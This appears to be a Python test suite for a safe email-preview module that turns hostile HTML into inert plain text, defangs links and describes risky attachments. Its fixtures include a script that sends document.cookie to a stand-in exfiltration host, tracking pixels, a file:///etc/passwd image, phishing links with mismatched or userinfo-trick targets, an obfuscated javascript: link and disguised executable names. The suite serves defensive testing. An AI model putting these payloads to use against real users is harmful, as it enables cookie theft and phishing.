"""The safe preview: hostile HTML becomes plain text, nothing is fetched, links are made inert.

No network objects are created anywhere in these tests: html_to_text only tokenizes, so a
remote or file:// image can only ever appear as the word "[image]".
"""

from __future__ import annotations

import re
import sys
from pathlib import Path

from hypothesis import example, given, settings
from hypothesis import strategies as st

from quarantine_checker.core.preview_text import (
    defang,
    describe_attachment,
    extract_links,
    html_to_text,
)

HOSTILE = """<html><head><title>Secret title</title>
<style>body { background: url("https://tracker.example/bg.png") }</style>
<script>document.location = "https://exfil.example/?c=" + document.cookie</script></head>
<body onload="alert(1)">
<p>Dear&nbsp;Alice,</p><p>Your parcel &amp; invoice &lt;4471&gt; are ready &#8212; caf&eacute;.</p>
<img src="file:///etc/passwd"><img src="https://tracker.example/pixel.gif" width="1" height="1">
<a href="https://evil.example/login">https://login.microsoftonline.com/</a>
<a href="java&#x09;script:alert(document.domain)">Confirm</a>
<a href="https://www.partner.example/invoices">partner.example/invoices</a>
<iframe src="https://ads.example/frame">frame text</iframe>
<SCRIPT type="text/javascript">var leaked = 1;</SCRIPT>
<ul><li>First</li><li>Second</li></ul>
</body></html>"""


_LIVE = re.compile(r"(?i)(https?|javascript|vbscript|data|file|ftp):")


def test_script_style_and_head_never_reach_the_text():
    text = html_to_text(HOSTILE)
    for leaked in ("document.location", "document.cookie", "var leaked", "background", "Secret title",
                   "frame text", "onload", "<"):
        assert leaked not in text.replace("<4471>", ""), leaked


def test_entities_are_decoded():
    text = html_to_text(HOSTILE)
    assert "Dear\u00a0Alice," in text or "Dear Alice," in text
    assert "Your parcel & invoice <4471> are ready \u2014 café." in text


def test_images_become_placeholders_and_no_address_of_them_survives():
    text = html_to_text(HOSTILE)
    assert text.count("[image]") == 2
    assert "file://" not in text and "/etc/passwd" not in text
    assert "tracker.example" not in text and "pixel.gif" not in text


def test_nothing_network_related_is_imported_by_the_preview():
    # The preview must not even be able to fetch: no HTTP or socket client behind it.
    module = sys.modules["quarantine_checker.core.preview_text"]
    source = Path(module.__file__).read_text(encoding="utf-8")
    for name in ("requests", "urllib.request", "http.client", "socket", "QtNetwork", "QTextBrowser"):
        assert f"import {name}" not in source and f"from {name}" not in source


def test_paragraph_and_list_structure_is_kept():
    text = html_to_text(HOSTILE)
    lines = text.splitlines()
    assert any(line.startswith("Dear") for line in lines)
    assert "\u2022 First" in lines and "\u2022 Second" in lines
    assert "\n\n\n" not in text


def test_links_show_where_they_really_go_and_that_they_are_off():
    text = html_to_text(HOSTILE)
    assert "https://login.microsoftonline.com/ [evil.example (link turned off)]" in text
    assert "https://evil.example" not in text and "evil.example/login" not in text
    assert "Confirm [a script, not a web page (link turned off)]" in text
    # No security notation for a person to decode.
    assert "hxxp" not in text and "[.]" not in text and "[:]" not in text


def test_each_kind_of_link_is_named_in_words():
    links = extract_links(
        '<a href="https://portal.partner.example/a?b=https://x.example">Portal</a>'
        '<a href="mailto:ap@partner.example?subject=x">Mail us</a>'
        '<a href="vbscript:msgbox(1)">Open</a><a href="not a url">Odd</a>', True)
    assert [link.shown for link in links] == [
        "portal.partner.example (link turned off)",
        "email to ap@partner.example (link turned off)",
        "a script, not a web page (link turned off)",
        "not a web address (link turned off)",
    ]


def test_mismatched_link_text_is_detected():
    links = {link.text: link for link in extract_links(HOSTILE, True)}
    lure = links["https://login.microsoftonline.com/"]
    assert lure.host == "evil.example" and lure.mismatch is True
    honest = links["partner.example/invoices"]
    assert honest.host == "www.partner.example" and honest.mismatch is False


def test_javascript_links_are_flagged_even_when_obfuscated():
    script = next(link for link in extract_links(HOSTILE, True) if link.text == "Confirm")
    assert script.is_script and script.scheme == "javascript"
    assert script.host == ""
    assert "javascript:" not in script.defanged


def test_userinfo_trick_points_at_the_real_host():
    [link] = extract_links('<a href="https://paypal.com@evil.example/x">paypal.com</a>', True)
    assert link.host == "evil.example"
    assert link.mismatch is True


def test_plain_text_links_are_found():
    links = extract_links("Runbook: https://wiki.litware.example/run. Also www.example.org, thanks", False)
    assert [link.host for link in links] == ["wiki.litware.example", "www.example.org"]
    assert links[0].url == "https://wiki.litware.example/run"
    assert not any(link.mismatch for link in links)


def test_defang_forms():
    assert defang("https://host.example/path") == "hxxps://host[.]example/path"
    assert defang("http://a.b.example:8080/x.y?q=1.2") == "hxxp://a[.]b[.]example:8080/x.y?q=1.2"
    assert defang("www.evil.example/a") == "www[.]evil[.]example/a"
    assert defang("JavaScript:alert(1)") == "JavaScript[:]alert(1)"
    # A target nested in a redirect parameter is made inert too.
    assert defang("https://r.example/?u=https://evil.example") == "hxxps://r[.]example/?u=https[:]//evil.example"
    assert defang("https://https://evil.example/") == "hxxps://https[:]//evil.example/"
    long = defang("https://x.example/" + "a" * 10_000)
    assert len(long) < 400 and long.endswith("\u2026")


def test_attachment_descriptions():
    assert describe_attachment("Invoice-4471.pdf", "application/pdf") == "PDF document"
    assert describe_attachment("AWB_7781.iso", "application/octet-stream") == \
        "Disk image \u2014 often used to hide malware"
    assert describe_attachment("contract.docx", "") == "Word document"
    assert "named to look like a PDF document" in describe_attachment("Invoice.pdf.exe", "")
    assert "hidden characters" in describe_attachment("invoice\u202efdp.exe", "application/x-msdownload")
    assert describe_attachment("noextension", "image/png") == "Picture"
    assert describe_attachment("", "") == "File"


def test_unclosed_head_does_not_swallow_the_body():
    assert "Hello" in html_to_text("<html><head><meta charset=utf-8><body><p>Hello</p>")


def test_huge_and_pathological_html_returns():
    for hostile in ("<!--" * 250_000, "<" * 1_000_000, "<a " * 300_000 + ">", "<p>" * 300_000,
                    "</" * 500_000, "<![" * 300_000 + ">", "<a href='" + "x" * 1_000_000):
        text = html_to_text(hostile)
        assert len(text) <= 200_100
        extract_links(hostile, True)
    big = "<p>" + "word " * 500_000 + "</p>"
    assert html_to_text(big).endswith("[The rest of this message is too long to preview.]")


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=2000))
def test_never_raises_on_arbitrary_text(html):
    assert isinstance(html_to_text(html), str)
    for link in extract_links(html, True) + extract_links(html, False):
        assert isinstance(link.defanged, str)


@settings(max_examples=150, deadline=None)
@example(parts=["<a href=", "</a>", "<a href=", "</a>", "javascript:"])  # text right after an anchor
@given(st.lists(st.sampled_from([
    "<a href=", "'", '"', "javascript:", "https://", "x.example", ">", "</a>", "<img src=file:///x>",
    "<script>", "</script>", "<!--", "-->", "<![", "]>", "&amp;", "&#", "<p>", "<style>", "<head>",
    "<body>", "@", "\u202e", "\x00", "<pre>", "</pre>", "text",
]), max_size=60))
def test_no_link_target_comes_out_live_on_tag_soup(parts):
    html = "".join(parts)
    text = html_to_text(html)
    for target in re.findall(r"\[([^\[\]]*?) \(link turned off\)\](?=\s|$)", text, re.S):
        assert not _LIVE.search(target), target
    for link in extract_links(html, True):
        assert not _LIVE.search(link.defanged), link
        assert not _LIVE.search(link.shown), link


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300), st.text(max_size=100))
def test_attachment_description_never_raises(name, content_type):
    assert describe_attachment(name, content_type)
